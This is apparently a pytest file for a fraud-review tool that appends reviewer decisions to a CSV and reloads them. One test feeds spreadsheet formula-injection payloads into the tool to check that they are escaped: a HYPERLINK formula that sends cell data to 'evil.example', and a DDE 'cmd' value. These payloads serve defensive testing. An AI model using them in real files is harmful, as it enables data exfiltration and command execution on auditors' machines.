from concurrent.futures import ProcessPoolExecutor
from datetime import datetime, timezone

import polars as pl
import pytest

from fraud.config import load_config
from fraud.decisions import append_decision, load_decisions
from fraud.errors import DecisionError


def _append_many(args):
    path, who = args
    for i in range(40):
        append_decision(path, f"f{who}-{i}", "dismiss", reviewer=who, note="same, time")
    return who


def test_concurrent_reviews_all_land(tmp_path):
    path = tmp_path / "decisions.csv"
    with ProcessPoolExecutor(2) as ex:
        list(ex.map(_append_many, [(path, "a"), (path, "b")]))
    df = pl.read_csv(path)
    assert df.height == 80 and df["finding_id"].n_unique() == 80
    assert df.columns == ["finding_id", "decision", "decided_at", "reviewer", "note"]


def test_latest_decision_wins_and_bad_words_are_rejected(tmp_path, cfg):
    path = tmp_path / "decisions.csv"
    append_decision(path, "f1", "dismiss", now=datetime(2024, 1, 1, tzinfo=timezone.utc))
    append_decision(path, "f1", "confirm", now=datetime(2024, 1, 2, tzinfo=timezone.utc))
    with open(path, "a") as fh:
        fh.write("f2,maybe,2024-01-03T00:00:00Z,x,\n")
    good, bad, loaded = load_decisions(path, cfg)
    assert good.select("finding_id", "decision").rows() == [("f1", "confirm")]
    assert bad.select("row", "reason").rows() == [(3, "decision must be confirm or dismiss: maybe")]
    assert bad["raw"][0] == ('{"finding_id":"f2","decision":"maybe","decided_at":"2024-01-03T00:00:00Z",'
                             '"reviewer":"x","note":null}')


def test_free_text_cells_take_the_formula_guard(tmp_path):
    """decisions.csv is opened by auditors in spreadsheets: a note or reviewer that would run as a formula is
    written behind a quote, as in every CSV output; ordinary text and handles stay as typed."""
    path = tmp_path / "decisions.csv"
    append_decision(path, "f1", "dismiss", note='=HYPERLINK("http://evil.example/?"&A1,"x")',
                    reviewer="@SUM(1+1)*cmd|' /C calc'!A0")
    append_decision(path, "f2", "confirm", note="-2 points too many? see ticket 12", reviewer="@alice")
    append_decision(path, "f3", "confirm", note="fine\n=1+1", reviewer="-bob")
    df = pl.read_csv(path, infer_schema=False)
    assert df.select("reviewer", "note").rows() == [
        ("'@SUM(1+1)*cmd|' /C calc'!A0", '\'=HYPERLINK("http://evil.example/?"&A1,"x")'),
        ("@alice", "'-2 points too many? see ticket 12"), ("-bob", "fine\n=1+1")]


def test_unknown_finding_refused_unless_forced(tmp_path):
    with pytest.raises(DecisionError, match="unknown finding id 'zz'"):
        append_decision(tmp_path / "d.csv", "zz", "dismiss", known_ids={"a"})
    assert append_decision(tmp_path / "d.csv", "zz", "dismiss", known_ids={"a"}, force=True)["finding_id"] == "zz"
    with pytest.raises(DecisionError, match="decision must be one of confirm, dismiss"):
        append_decision(tmp_path / "d.csv", "a", "maybe")


def test_config_fixture_is_default():
    assert load_config().observation_days == 45


def test_bulk_review_of_a_user_takes_penalties_unless_a_rule_is_named():
    import polars as pl

    from fraud.decisions import findings_of
    from fraud.errors import DecisionError

    f = pl.DataFrame({"finding_id": ["a", "b", "c", "d"], "user_id": ["u", "u", "u", "v"],
                      "rule": ["geo.impossible_travel", "device.lock_enabled", "geo.impossible_travel", "x"],
                      "points": [-30, 5, -30, -10]})
    assert findings_of(f, "u") == ["a", "c"]
    assert findings_of(f, "u", "device.lock_enabled") == ["b"]
    with pytest.raises(DecisionError, match="no findings of user 'u' for rule 'geo.remote_logins'"):
        findings_of(f, "u", "geo.remote_logins")
    # a misspelt rule is said to be one, not read as a rule this user has no findings of
    with pytest.raises(DecisionError, match=r"unknown rule 'geo.remote_login' \(`fraud rules` lists the rule ids\)"):
        findings_of(f, "u", "geo.remote_login")


NOW = datetime(2024, 1, 1, tzinfo=timezone.utc)


def test_rows_follow_an_existing_header_so_the_next_scan_reads_them(tmp_path, cfg):
    """A decisions file with only the required columns, in another order and separator, without a final line
    end: the new row takes its header's order and separator (it was a 5-field row the next scan rejected, and the
    decision was lost)."""
    path = tmp_path / "decisions.csv"
    path.write_bytes(b"\xef\xbb\xbfDecided_At;finding_id;decision\r\n2023-12-01T00:00:00Z;f0;dismiss")
    append_decision(path, "f1", "confirm", note="checked", now=NOW)
    assert path.read_bytes().endswith(b"2023-12-01T00:00:00Z;f0;dismiss\r\n2024-01-01T00:00:00Z;f1;confirm\r\n")
    good, bad, _ = load_decisions(path, cfg)
    assert good.select("finding_id", "decision").rows() == [("f0", "dismiss"), ("f1", "confirm")]
    assert bad.height == 0
    fresh = tmp_path / "new.csv"
    append_decision(fresh, "f1", "dismiss", note="n", reviewer="r", now=NOW)
    assert fresh.read_bytes() == b"finding_id,decision,decided_at,reviewer,note\r\nf1,dismiss,2024-01-01T00:00:00Z,r,n\r\n"


def test_a_file_that_is_no_decisions_file_is_refused_untouched(tmp_path):
    logins = tmp_path / "logins.csv"
    logins.write_text("ts,user_id\n2024-01-01T00:00:00Z,u1\n")
    with pytest.raises(DecisionError, match=r"logins\.csv: not a decisions file: its header has no finding_id, "
                                            r"decision, decided_at column"):
        append_decision(logins, "f1", "dismiss", now=NOW)
    assert logins.read_text() == "ts,user_id\n2024-01-01T00:00:00Z,u1\n"
    for name in ("decisions.parquet", "decisions.jsonl", "decisions.csv.gz", "decisions"):
        with pytest.raises(DecisionError, match=r"decisions are appended to a CSV file \(\.csv\)"):
            append_decision(tmp_path / name, "f1", "dismiss", now=NOW)
        assert not (tmp_path / name).exists()


def test_an_unwritable_decisions_path_is_one_error_naming_it(tmp_path):
    (tmp_path / "afile").write_text("x")
    (tmp_path / "folder.csv").mkdir()
    with pytest.raises(DecisionError, match=r"afile/d\.csv: cannot write decisions \(File exists\)"):
        append_decision(tmp_path / "afile" / "d.csv", "f1", "dismiss", now=NOW)
    with pytest.raises(DecisionError, match=r"folder\.csv: cannot write decisions \(Is a directory\)"):
        append_decision(tmp_path / "folder.csv", "f1", "dismiss", now=NOW)


def test_a_decision_that_a_later_dated_one_would_override_is_refused(tmp_path, cfg):
    """The latest decided_at holds: after a confirm dated 2031 (a clock set wrong, a typo), a dismissal recorded
    now would be written and never take effect. It is refused, naming the row; other findings are recorded."""
    from fraud.decisions import append_decisions

    path = tmp_path / "decisions.csv"
    append_decision(path, "f1", "confirm", now=datetime(2031, 1, 1, tzinfo=timezone.utc))
    with pytest.raises(DecisionError, match=r"finding f1 already has a confirm dated 2031-01-01T00:00:00Z, after "
                                            r"this decision \(2026-11-24T00:00:00Z\)"):
        append_decisions(path, ["f2", "f1"], "dismiss", now=datetime(2026, 11, 24, tzinfo=timezone.utc))
    assert pl.read_csv(path).height == 1  # all or none
    rows = append_decisions(path, ["f2", "f3", "f2"], "dismiss", now=datetime(2026, 11, 24, tzinfo=timezone.utc))
    assert [r["finding_id"] for r in rows] == ["f2", "f3"]  # an id given twice is one decision
    good, _, _ = load_decisions(path, cfg)
    assert good.select("finding_id", "decision").rows() == [("f1", "confirm"), ("f2", "dismiss"), ("f3", "dismiss")]


def _cut(src, dst, before):
    """The synthetic data set in ``src`` with the rows dated before ``before`` (UTC), into ``dst``."""
    dst.mkdir()
    for name in ("logins", "devices", "locations"):
        f = pl.read_csv(src / f"{name}.csv", infer_schema_length=0)
        ts = pl.col("ts").str.to_datetime(time_zone="UTC", strict=False)
        f.filter((ts < before) | ts.is_null()).write_csv(dst / f"{name}.csv")  # the planted bad rows every night
    (dst / "scores.csv").write_bytes((src / "scores.csv").read_bytes())


def test_decisions_on_findings_whose_window_grows_hold_on_the_next_nights_scan(tmp_path):
    """A nightly scan of logs that grew by a day: a dismissed emulator, bot agent, rooted device, outlier, month so
    far ... (the rules whose window is a subject's first to latest sighting, ``identity`` in the registry) keeps its
    id, so the decision still applies; every identity field is in its findings."""
    from fraud.findings import id_key
    from fraud.pipeline import ScanInputs, scan
    from fraud.registry import identities
    from fraud.schema import CHECK_COLUMNS
    from fraud.synth import generate

    src = tmp_path / "all"
    generate(src, users=200, seed=11, days=60)
    cfg = load_config()
    _cut(src, tmp_path / "n1", datetime(2024, 4, 28, tzinfo=timezone.utc))
    _cut(src, tmp_path / "n2", datetime(2024, 4, 29, tzinfo=timezone.utc))
    first = scan(ScanInputs.from_folder(tmp_path / "n1"), cfg).findings
    ident = identities()
    held = first.filter(pl.col("rule").is_in(list(ident)))
    assert held["rule"].n_unique() >= 6  # emulator, bot agent, rooted, lock, id conflict, ua mismatch, months ...
    for rule, names in ident.items():
        evidence = held.filter(pl.col("rule") == rule)["evidence"]
        for n in (n for n in names if n not in CHECK_COLUMNS):
            assert evidence.str.json_path_match(f"$.{n}").null_count() == 0, (rule, n)
    decisions = tmp_path / "decisions.csv"
    for fid in held["finding_id"]:
        append_decision(decisions, fid, "dismiss", now=datetime(2024, 5, 1, tzinfo=timezone.utc))
    second = scan(ScanInputs.from_folder(tmp_path / "n2", decisions=decisions), cfg).findings
    again = second.filter(pl.col("finding_id").is_in(held["finding_id"].to_list()))
    # every held finding whose subject is still flagged tomorrow is the same finding, dismissed
    still = second.filter(pl.col("rule").is_in(list(ident))).with_columns(id_key(ident).alias("_k")).join(
        held.with_columns(id_key(ident).alias("_k")).select("_k"), on="_k", how="semi")
    assert again.height == still.height >= held.height - 3
    assert set(again["decision"]) == {"dismiss"} and not again["counted"].any()
    grown = again.join(held.select("finding_id", pl.col("last_ts").alias("_was")), on="finding_id")
    assert (grown["last_ts"] > grown["_was"]).any()  # windows did grow overnight
